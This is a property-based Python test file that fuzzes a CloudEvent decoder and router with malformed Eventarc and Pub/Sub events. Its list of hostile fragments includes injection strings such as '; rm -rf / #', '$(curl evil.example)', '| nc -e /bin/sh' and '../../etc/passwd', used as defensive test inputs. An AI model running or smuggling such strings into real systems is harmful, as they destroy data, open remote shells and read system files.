"""Hostile and broken events: decode and route refuse them with a PermanentError, never crash.

Hypothesis builds CloudEvents around the real Eventarc and Pub/Sub shapes (docs/messages.md) and
breaks them: wrong types, missing fields, huge sizes, non-UTF-8 and odd Unicode bodies, attributes
of every shape, object names with ``..``, newlines, shell metacharacters and label-breaking
characters. Whatever arrives, ``decode`` returns a trigger or raises ``MalformedEvent``, and
``route`` on the example config returns a match, None, or raises a ``PermanentError``: no
``KeyError``, ``TypeError`` or ``UnicodeError`` can escape and turn into a retry storm.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest
from cloudevents.http import CloudEvent
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shared.adapters.config_source import load_config
from shared.config.model import Config
from shared.decode import routing
from shared.decode.events import (
    IDEMPOTENCY_KEY_ATTRIBUTE,
    KIND_ATTRIBUTE,
    PUBSUB_PUBLISHED,
    STORAGE_FINALIZED,
    decode,
)
from shared.model.errors import MalformedEvent, PermanentError
from shared.model.triggers import RetryRequest

EXAMPLE_CONFIG = Path(__file__).parents[2] / "examples" / "config.yaml"
REQUESTS_SOURCE = "//pubsub.googleapis.com/projects/acme-ml/topics/training-requests"
RUN_ID = "r-3f2a9c0d1e4b5a6978877665"
PROPERTY_SETTINGS = settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)

# Characters that break shells, paths, label values, JSON and terminals when trusted blindly.
HOSTILE_FRAGMENTS = (
    "..",
    "../../etc/passwd",
    "\n",
    "\r\n",
    "\x00",
    "\t",
    "; rm -rf / #",
    "$(curl evil.example)",
    "`id`",
    "| nc -e /bin/sh",
    "&&",
    "' OR '1'='1",
    '"',
    "{run_id}",
    "{project}",
    "{",
    "}",
    "--image=evil",
    "\u202e",  # right-to-left override
    "\u200b",  # zero-width space
    "\ufeff",
    "\ud7ff",
    "😀",
    "İ",
    "ß",
    "\x85",
    "\u2028",
    "Label=Value,Other",
    "a" * 70,  # longer than a label value may be
    "/",
    "*",
    "**",
    "[!",
)

hostile_text = st.one_of(
    st.text(max_size=40),
    st.sampled_from(HOSTILE_FRAGMENTS),
    st.lists(st.sampled_from((*HOSTILE_FRAGMENTS, "a", "b/", "x")), max_size=6).map("".join),
)
huge_text = st.integers(min_value=1_000, max_value=300_000).map(lambda n: "x" * n)
json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False),
    hostile_text,
)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(hostile_text, inner, max_size=4)
    ),
    max_leaves=12,
)
# int64 fields arrive as JSON strings from Eventarc; also try ints, floats, junk and overflows.
int64_fields = st.one_of(
    st.integers(min_value=-(2**65), max_value=2**65).map(str),
    st.integers(min_value=-(2**65), max_value=2**65),
    st.sampled_from(["", " 1", "1e3", "0x10", "١٢٣", "9" * 30, "-0", "+1"]),
    json_values,
)


def maybe(value: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """A field that is sometimes absent (the sentinel ``...``)."""
    return st.one_of(st.just(...), value)


def without_absent(mapping: dict[str, Any]) -> dict[str, Any]:
    return {key: value for key, value in mapping.items() if value is not ...}


@st.composite
def storage_events(draw: st.DrawFn) -> CloudEvent:
    bucket = draw(st.one_of(st.just("acme-datasets"), st.just("acme-eval"), json_values))
    name = draw(
        st.one_of(
            st.builds(lambda middle: f"imagenet/{middle}/_SUCCESS", hostile_text),
            st.builds(lambda middle: f"incoming/{middle}.tfrecord", hostile_text),
            st.builds(lambda middle: f"corpus/{middle}/manifest.json", hostile_text),
            huge_text,
            json_values,
        )
    )
    data = without_absent(
        {
            "kind": "storage#object",
            "bucket": draw(maybe(st.just(bucket))),
            "name": draw(maybe(st.just(name))),
            "generation": draw(maybe(int64_fields)),
            "metageneration": draw(maybe(int64_fields)),
            "size": draw(maybe(int64_fields)),
            "contentType": draw(maybe(json_values)),
        }
    )
    attributes = without_absent(
        {
            "type": STORAGE_FINALIZED,
            "source": draw(
                st.one_of(
                    st.just(f"//storage.googleapis.com/projects/_/buckets/{bucket}"),
                    hostile_text.filter(bool),
                )
            ),
            "id": draw(st.text(min_size=1, max_size=20)),
            "subject": draw(maybe(st.one_of(st.just(f"objects/{name}"), hostile_text))),
            "time": draw(maybe(st.one_of(st.just("2026-12-01T02:00:00.000Z"), hostile_text))),
        }
    )
    event_data = draw(
        st.one_of(
            st.just(data),
            json_values,
            st.binary(max_size=64),
            st.just(json.dumps(data).encode()),
        )
    )
    return CloudEvent(attributes, event_data)


body_bytes = st.one_of(
    st.binary(max_size=200),  # mostly not UTF-8, not JSON
    st.builds(lambda value: json.dumps(value).encode(), json_values),
    st.builds(lambda value: json.dumps(value, ensure_ascii=False).encode(), json_values),
    st.builds(
        lambda template, params: json.dumps({"template": template, "params": params}).encode(),
        st.one_of(st.sampled_from(["resnet-a100", "bert-package", "no-such"]), json_values),
        st.one_of(st.dictionaries(hostile_text, json_values, max_size=3), json_values),
    ),
    st.builds(
        lambda schedule, time: json.dumps({"schedule": schedule, "time": time}).encode(),
        st.one_of(st.sampled_from(["nightly-retrain", "weekly-dws-check"]), json_values),
        json_values,
    ),
    st.builds(
        lambda run_id, attempt, index, reason: json.dumps(
            {"run_id": run_id, "attempt": attempt, "placement_index": index, "reason": reason}
        ).encode(),
        st.one_of(st.just(RUN_ID), json_values),
        int64_fields,
        int64_fields,
        json_values,
    ),
    st.builds(lambda text: text.encode("utf-16"), st.text(max_size=20)),  # not UTF-8
    st.integers(min_value=60_000, max_value=70_000).map(lambda n: b'{"a": "' + b"x" * n + b'"}'),
)
attribute_maps = st.one_of(
    st.dictionaries(
        st.one_of(
            st.sampled_from(["kind", "team", KIND_ATTRIBUTE, IDEMPOTENCY_KEY_ATTRIBUTE]),
            hostile_text,
        ),
        st.one_of(
            st.sampled_from(["train", "nlp", "request", "schedule", "retry", "cancel", ""]),
            hostile_text,
            huge_text,
        ),
        max_size=6,
    ),
    st.dictionaries(st.text(max_size=3), st.text(max_size=3), min_size=33, max_size=40),
    json_values,
)


@st.composite
def pubsub_events(draw: st.DrawFn) -> CloudEvent:
    body = draw(body_bytes)
    encoded = draw(
        st.one_of(
            st.just(base64.b64encode(body).decode()),
            st.just(base64.urlsafe_b64encode(body).decode()),
            hostile_text,
            json_values,
            st.just("A" * 90_000),
        )
    )
    message = without_absent(
        {
            "data": draw(maybe(st.just(encoded))),
            "attributes": draw(maybe(attribute_maps)),
            "messageId": draw(maybe(st.one_of(st.text(min_size=1, max_size=30), json_values))),
            "publishTime": draw(
                maybe(st.one_of(st.just("2026-12-01T02:00:03.412Z"), hostile_text, json_values))
            ),
        }
    )
    data = draw(
        st.one_of(
            st.just({"message": message, "subscription": "projects/acme-ml/subscriptions/s"}),
            st.builds(lambda junk: {"message": junk}, json_values),
            json_values,
            st.binary(max_size=64),
        )
    )
    attributes = {"type": PUBSUB_PUBLISHED, "source": REQUESTS_SOURCE, "id": "9182736450"}
    return CloudEvent(attributes, data)


@st.composite
def any_type_events(draw: st.DrawFn) -> CloudEvent:
    attributes = {
        "type": draw(
            st.one_of(
                st.sampled_from(
                    [
                        "google.cloud.storage.object.v1.deleted",
                        "google.cloud.storage.object.v1.finalized ",
                        "GOOGLE.CLOUD.STORAGE.OBJECT.V1.FINALIZED",
                        "com.example.evil",
                    ]
                ),
                hostile_text.filter(bool),
            )
        ),
        "source": draw(hostile_text.filter(bool)),
        "id": draw(st.text(min_size=1, max_size=20)),
    }
    return CloudEvent(attributes, draw(json_values))


@pytest.fixture(scope="module")
def example_config() -> Config:
    return load_config(str(EXAMPLE_CONFIG))


def decode_and_route(event: CloudEvent, config: Config) -> str:
    """What happened to ``event``; any exception other than the allowed ones fails the test."""
    try:
        trigger = decode(event)
    except MalformedEvent as error:
        assert str(error), "a MalformedEvent must say what is wrong"
        return "malformed"
    if isinstance(trigger, RetryRequest):
        return "retry"
    try:
        match = routing.route(trigger, config)
    except PermanentError as error:
        assert str(error), "a PermanentError must say what is wrong"
        return "rejected"
    return "no route" if match is None else "matched"


@pytest.mark.parametrize(
    "events",
    [
        pytest.param(storage_events(), id="storage finalized"),
        pytest.param(pubsub_events(), id="pubsub messagePublished"),
        pytest.param(any_type_events(), id="any other type"),
    ],
)
def test_any_event_decodes_or_is_refused_with_a_permanent_error(
    events: st.SearchStrategy[CloudEvent], example_config: Config
) -> None:
    @PROPERTY_SETTINGS
    @given(event=events)
    def check(event: CloudEvent) -> None:
        decode_and_route(event, example_config)

    check()


def test_any_other_event_type_is_malformed(example_config: Config) -> None:
    @PROPERTY_SETTINGS
    @given(event=any_type_events())
    def check(event: CloudEvent) -> None:
        assert decode_and_route(event, example_config) == "malformed"

    check()


@pytest.mark.parametrize(
    ("run_id", "attempt", "placement_index", "reason"),
    [
        pytest.param(RUN_ID, 2, 1, "capacity", id="valid"),
        pytest.param(RUN_ID, "2", 1, "capacity", id="attempt as a string"),
        pytest.param(RUN_ID, 2.5, 1, "", id="attempt a float"),
        pytest.param(RUN_ID, True, 0, "", id="attempt a boolean"),
        pytest.param(RUN_ID, 2**64, 0, "", id="attempt over int64"),
        pytest.param(RUN_ID, 0, 0, "", id="attempt zero"),
        pytest.param(RUN_ID, 2, -1, "", id="negative placement"),
        pytest.param(RUN_ID, 2, 10**6, "", id="placement far outside"),
        pytest.param(RUN_ID.upper(), 2, 0, "", id="run id upper case"),
        pytest.param("r-../../ledger", 2, 0, "", id="run id path traversal"),
        pytest.param(RUN_ID + "\n", 2, 0, "", id="run id with newline"),
        pytest.param(None, 2, 0, "", id="run id missing"),
        pytest.param(RUN_ID, 2, 0, "x" * 5000, id="reason huge"),
        pytest.param(RUN_ID, 2, 0, ["a"], id="reason a list"),
    ],
)
def test_a_retry_message_decodes_only_when_every_field_is_in_range(
    run_id: object, attempt: object, placement_index: object, reason: object
) -> None:
    body = {"run_id": run_id, "attempt": attempt, "placement_index": placement_index}
    body["reason"] = reason
    message = {
        "data": base64.b64encode(json.dumps(body).encode()).decode(),
        "attributes": {KIND_ATTRIBUTE: "retry"},
        "messageId": "9182736451",
        "publishTime": "2026-12-01T02:00:03.412Z",
    }
    event = CloudEvent(
        {"type": PUBSUB_PUBLISHED, "source": REQUESTS_SOURCE, "id": "9182736451"},
        {"message": message},
    )
    valid = run_id == RUN_ID and attempt == 2 and placement_index == 1
    if valid:
        trigger = decode(event)
        assert isinstance(trigger, RetryRequest)
        assert (trigger.run_id, trigger.attempt, trigger.placement_index) == (RUN_ID, 2, 1)
    else:
        with pytest.raises(MalformedEvent):
            decode(event)
